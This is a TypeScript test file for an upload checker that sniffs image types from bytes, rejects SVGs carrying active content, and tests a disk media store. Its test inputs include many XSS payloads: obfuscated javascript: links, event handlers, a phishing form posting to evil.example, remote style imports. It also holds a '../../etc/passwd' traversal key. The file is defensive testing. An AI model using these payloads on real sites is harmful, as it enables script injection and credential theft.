import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, describe, expect, it } from 'vitest';
import { GIF_1X1, icoImage, JPEG_1X1, pngImage, SVG_ICON, WEBP_1X1 } from './upload-fixtures.ts';
import { hasActiveContent, sniffMedia } from './upload-sniff.ts';
import { DiskMediaStore, mediaKey, parseMediaKey } from '../providers/media/store.ts';

describe('sniffMedia: the type comes from the bytes', () => {
  it.each([
    ['png', pngImage(7, 3), 'png', 'image/png', 7, 3],
    ['jpeg', JPEG_1X1, 'jpg', 'image/jpeg', 1, 1],
    ['gif', GIF_1X1, 'gif', 'image/gif', 1, 1],
    ['webp', WEBP_1X1, 'webp', 'image/webp', 1, 1],
    ['ico', icoImage(), 'ico', 'image/x-icon', 16, 16],
    ['svg', SVG_ICON, 'svg', 'image/svg+xml', 24, 20],
  ])('accepts a %s with its size', async (_name, bytes, ext, mime, width, height) => {
    expect(await sniffMedia(bytes)).toEqual({ ok: true, ext, mime, width, height });
  });

  it.each([
    ['empty', Buffer.alloc(0)],
    ['plain text', Buffer.from('just some text, named logo.png by the client')],
    ['html', Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>')],
    ['a pdf', Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n')],
    ['a zip', Buffer.from('504b0304140000000800', 'hex')],
    ['a png signature on junk', Buffer.concat([pngImage(1, 1).subarray(0, 8), Buffer.alloc(64)])],
    ['xml that is not svg', Buffer.from('<?xml version="1.0"?><html><svg/></html>')],
    ['svg with NUL bytes', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">\0</svg>')],
    ['invalid utf-8', Buffer.from([0x3c, 0x73, 0x76, 0x67, 0x20, 0xff, 0xfe, 0x3e])],
  ])('refuses %s as wrong_file_type', async (_name, bytes) => {
    expect(await sniffMedia(bytes)).toEqual({ ok: false, code: 'wrong_file_type' });
  });

  it('accepts an svg without a size, with a BOM and a DOCTYPE', async () => {
    const svg = Buffer.from(
      '\uFEFF<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>',
    );
    expect(await sniffMedia(svg)).toEqual({
      ok: true,
      ext: 'svg',
      mime: 'image/svg+xml',
      width: null,
      height: null,
    });
  });

  it.each([
    '<svg><script>alert(1)</script></svg>',
    '<svg><svg:script>alert(1)</svg:script></svg>',
    '<svg onload="alert(1)"></svg>',
    '<svg/onload=alert(1)>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a xlink:href="jav&#x09;ascript:alert(1)">x</a></svg>',
    '<svg><a href="&#106;avascript:alert(1)">x</a></svg>',
    // Named references, as a page that inlines the text decodes them.
    '<svg><a href="javascript&colon;alert(1)">x</a></svg>',
    '<svg><a href="java&Tab;script&colon;alert(1)">x</a></svg>',
    '<svg><a href="java&NewLine;script:alert(1)">x</a></svg>',
    '<svg><a href="javascript&amp;colon;alert(1)">x</a></svg>',
    '<svg><foreignObject><iframe src="/"></iframe></foreignObject></svg>',
    '<svg><image href="data:text/html;base64,PHNjcmlwdD4="/></svg>',
    '<svg><image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    '<svg><embed src="/x"/></svg>',
  ])('refuses active content as unsafe_svg: %s', async (svg) => {
    expect(hasActiveContent(svg)).toBe(true);
    expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
  });

  // Cases the former regex deny-list let through (it named patterns, not what a parser builds):
  // DOMPurify's svg allow-list and the checks on what it lets through by design refuse them.
  it.each([
    // HTML after the svg's end: a phishing form on the page that inlines the icon.
    '<svg xmlns="http://www.w3.org/2000/svg"><p></p><form action="https://evil.example/login"><input name="password"></form></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/sprite.svg#icon"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport url(https://evil.example/x.css);</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>a{background:url(https://tracker.example/p.png)}</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(&quot;https://tracker.example/p&quot;)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><title></title><noscript><p title="</noscript><img src=x>"></p></noscript></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?></svg>',
  ])('refuses what a regex deny-list misses as unsafe_svg: %s', async (svg) => {
    expect(hasActiveContent(svg)).toBe(true);
    expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
  });

  it.each([
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a xlink:href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a></svg>',
    '<svg><foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>',
    '<svg><g OnMouseOver="alert(1)"/></svg>',
    '<svg><rect oNcLiCk  =  "alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,%3Csvg%20id=%22x%22/%3E#x"/></svg>',
    '<svg><style>rect{background:url(javascript:alert(1))}</style></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="https://x;javascript:alert(1)"/></svg>',
  ])('refuses the usual svg attacks as unsafe_svg: %s', async (svg) => {
    expect(hasActiveContent(svg)).toBe(true);
    expect(await sniffMedia(Buffer.from(svg))).toEqual({ ok: false, code: 'unsafe_svg' });
  });

  it('keeps what editors export: Inkscape metadata, sprites, filters, xml:space', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
      'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" ' +
      'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" ' +
      'inkscape:version="1.3" xml:space="preserve" viewBox="0 0 10 10">' +
      '<sodipodi:namedview id="view" inkscape:zoom="2"/>' +
      '<defs><filter id="f"><feGaussianBlur stdDeviation="1"/></filter>' +
      '<symbol id="dot"><circle r="1" style="fill:url(#g)"/></symbol></defs>' +
      '<g inkscape:label="Layer 1" filter="url(#f)"><use href="#dot"/><use xlink:href="#dot"/></g></svg>';
    expect(hasActiveContent(svg)).toBe(false);
  });

  it('keeps harmless svg features: styles, gradients, metadata, embedded png data', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><metadata>made online</metadata><defs>' +
      '<linearGradient id="g"/></defs><style>.a{fill:url(#g)}</style>' +
      '<image href="data:image/png;base64,iVBORw0KGgo="/></svg>';
    expect(hasActiveContent(svg)).toBe(false);
  });
});

describe('DiskMediaStore', () => {
  const root = mkdtempSync(path.join(os.tmpdir(), 'northstar-media-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const store = new DiskMediaStore(root);
  const key = mediaKey('ab'.repeat(32), 'svg');

  it('puts, gets and deletes by content key, under a two-character folder', async () => {
    expect(await store.get(key)).toBeNull();
    await store.put(key, SVG_ICON, 'image/svg+xml');
    // Putting a key again is a no-op, never an error.
    await store.put(key, SVG_ICON, 'image/svg+xml');
    expect(readdirSync(path.join(root, 'ab'))).toEqual([key]);
    const stored = await store.get(key);
    expect(stored?.size).toBe(SVG_ICON.length);
    expect(await text(stored!.body)).toBe(SVG_ICON.toString());
    await store.delete(key);
    await store.delete(key);
    expect(await store.get(key)).toBeNull();
  });

  it('takes only well-formed keys', async () => {
    expect(parseMediaKey(key)).toEqual({ hash: 'ab'.repeat(32), ext: 'svg' });
    for (const bad of ['../../etc/passwd', `${'ab'.repeat(32)}.html`, 'AB'.repeat(32) + '.png']) {
      expect(parseMediaKey(bad)).toBeNull();
      await expect(store.get(bad)).rejects.toThrow(/media key/);
    }
  });
});
